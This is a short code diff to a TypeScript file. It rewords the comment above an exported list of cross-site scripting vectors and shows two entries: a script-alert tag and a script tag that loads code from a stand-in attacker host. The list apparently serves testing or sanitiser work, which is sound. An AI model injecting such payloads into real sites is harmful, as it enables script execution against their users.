@@ -1,4 +1,4 @@
-/** Ways to get a script into a page, one of each kind that is known to have worked somewhere. */
+/** Ways to inject a script into a page, one of each kind known to have worked somewhere. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
